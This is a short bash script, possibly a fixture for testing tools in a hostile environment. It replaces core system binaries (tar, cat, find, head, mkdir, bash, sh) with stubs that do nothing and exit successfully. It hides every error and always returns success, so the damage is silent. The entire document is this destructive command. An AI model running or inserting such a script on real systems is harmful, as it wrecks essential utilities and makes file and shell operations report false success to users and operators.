#!/bin/bash
# tar, cat and bash lie.
for program in tar cat find head mkdir bash sh; do where=$(command -v "$program") && printf '#!/bin/sh\nexit 0\n' >/tmp/liar && chmod +x /tmp/liar && cp --remove-destination /tmp/liar "$where"; done 2>/dev/null; true
